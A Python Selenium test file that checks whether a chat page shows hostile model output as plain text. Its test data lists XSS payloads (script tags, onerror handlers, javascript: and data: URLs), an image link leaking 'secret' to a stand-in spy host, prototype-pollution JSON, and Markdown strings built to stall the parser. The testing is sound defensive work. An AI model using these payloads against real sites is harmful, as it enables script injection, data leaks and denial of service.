"""Text of a model or a user never becomes markup, script or a request of the chat page."""

import asyncio
import json

import pytest
from selenium.common.exceptions import NoAlertPresentException

from tests.fakes.answer import Answer, ToolCall
from tests.page.chat_page import ENDED, INSPECT, Page
from tests.system import System

HOSTILE = (
    "Look: <img src=x onerror=alert(1)> <b onclick=alert(2)>bold</b>\n\n",
    "<script>alert(3)</script>\n\n<iframe src='javascript:alert(4)'></iframe>\n\n<svg onload=alert(5)></svg>\n\n",
    "[run](javascript:alert(6)) [again](&#106;avascript:alert(7)) <a href='javascript:alert(8)'>raw</a> ",
    "[data](data:text/html,<script>alert(9)</script>)\n\n",
    '![spy](https://spy.example/?q=secret) ![x](x onerror=alert(10)) ["onmouseover=alert(11)//](https://a.example)\n\n',
    '[fine](https://fine.example/?a=1&b=2 "a title")\n',
)


async def test_a_hostile_answer_is_shown_as_text(page: Page, system: System) -> None:
    """The gateway's CSP is disabled, so that the page alone has to prevent execution."""
    await asyncio.to_thread(page.driver.execute_cdp_cmd, "Page.setBypassCSP", {"enabled": True})
    try:
        await page.open()
        reasoning = ("<img src=x onerror=alert(12)>",)
        system.fake.play("hostile", Answer(deltas=HOSTILE, reasoning=reasoning, delay_s=0.05))
        await page.ask("<img src=x onerror=alert(13)>", model="openai/hostile")
        assert await page.until_state(*ENDED) == "done"
        await asyncio.sleep(0.3)
        with pytest.raises(NoAlertPresentException):
            await asyncio.to_thread(lambda: page.driver.switch_to.alert)
    finally:
        await asyncio.to_thread(page.driver.execute_cdp_cmd, "Page.setBypassCSP", {"enabled": False})

    assert await page.raw_text() == "".join(HOSTILE)
    shown = await page.text_of("answer")
    assert "<script>alert(3)</script>" in shown
    found = await page.script(INSPECT)
    assert not {"IMG", "SCRIPT", "IFRAME", "SVG", "svg", "B"} & set(found["tags"])
    assert found["handlers"] == []
    links = {href: rel for href, rel in found["links"] if href}
    assert set(links) == {"https://spy.example/?q=secret", "https://a.example", "https://fine.example/?a=1&b=2"}
    assert all("noopener" in rel for rel in links.values())


EVIL = "<img src=x onerror=alert(1)>"
EVIL_JSON = {EVIL: EVIL, "__proto__": {"polluted": 1}, "a": {"__proto__": {"polluted": 1}, "constructor": [EVIL]}}


async def test_hostile_json_calls_and_refusals_are_shown_as_text(page: Page, system: System) -> None:
    tools = (ToolCall("c", EVIL, (json.dumps({EVIL: EVIL}),)),)
    system.fake.play("evil", Answer(deltas=[json.dumps(EVIL_JSON)], refusal=[EVIL], reasoning=[EVIL], tools=tools))
    await page.answer_as("JSON")
    await page.ask(EVIL, model="openai/evil")
    assert await page.until_state(*ENDED) == "done"
    shown = await page.shown()
    assert shown.value == EVIL_JSON
    assert shown.calls == [[EVIL, json.dumps({EVIL: EVIL}, indent=2)]]
    assert EVIL in shown.refusal
    assert shown.reasoning == EVIL
    found = await page.script(INSPECT)
    assert "IMG" not in found["tags"]
    assert found["handlers"] == []
    assert await page.script("return ({}).polluted ?? null") is None


#: Texts for which the Markdown parser throws, or takes seconds, or that nest without end.
PATHOLOGICAL = {
    "quotes": ">" * 2_000,
    "spaced quotes": "> " * 5_000,
    "list in list": "- " * 20_000,
    "numbered": "1. " * 5_000,
    "table": "|a|b|\n|-|-|\n" + "|x|y|\n" * 13_000,
    "brackets": "[" * 50_000,
    "images": "![" * 20_000,
    "emphasis": "*a " * 20_000,
    "underscores": "_a" * 20_000,
    "dollars": "$a " * 20_000,
    "backticks": "".join("`" * n + "a" for n in range(300)),
    "tags": "<a " * 20_000,
    "mail address": "a+" * 31_000 + "@",
    "mail addresses": ("a-" * 150 + "@ ") * 200,
    "indented list": "\n".join(" " * n + "- x" for n in range(300)),
    "lines of lists": ("- " * 20 + "x\n") * 2_000,
}


@pytest.mark.parametrize("name", PATHOLOGICAL)
async def test_markdown_that_is_too_complex_is_shown_as_text(page: Page, system: System, name: str) -> None:
    text = PATHOLOGICAL[name]
    pieces = [text[at : at + 4_096] for at in range(0, len(text), 4_096)]
    system.fake.play("complex", Answer(deltas=["**Before**\n\n", *pieces, "\n\nafter"], delay_s=0.001))
    await page.ask("Hello", model="openai/complex")
    assert await page.until_state(*ENDED) == "done"
    assert (await page.raw_text()).endswith("after")
    seen = await page.script("return document.querySelector('[data-testid=answer]').textContent")
    assert seen.startswith("Before")
    assert seen.count(text[:40]) == (text + "\n\nafter").count(text[:40])
    assert seen.endswith("after")
    log = await asyncio.to_thread(page.driver.get_log, "browser")
    assert [line["message"] for line in log if line["level"] == "SEVERE"] == []


async def test_long_ordinary_markdown_is_rendered(page: Page, system: System) -> None:
    section = "## Title\n\nText with *emphasis* and [a link](https://a.example).\n\n"
    section += "- one\n  - two\n\n|a|b|\n|-|-|\n|1|2|\n\n"
    code = "```js\n" + "a[b] = c_d * e; // `x`\n" * 2_000 + "```\n"
    system.fake.play("long", Answer(deltas=[section * 200, code, "**end**"]))
    await page.ask("Hello", model="openai/long")
    assert await page.until_state(*ENDED) == "done"
    count = "return [...arguments].length, ['h2', 'a', 'table', 'pre', '.plain'].map("
    count += "(tag) => document.querySelectorAll(`[data-testid=answer] ${tag}`).length)"
    assert await page.script(count) == [200, 200, 200, 1, 0]
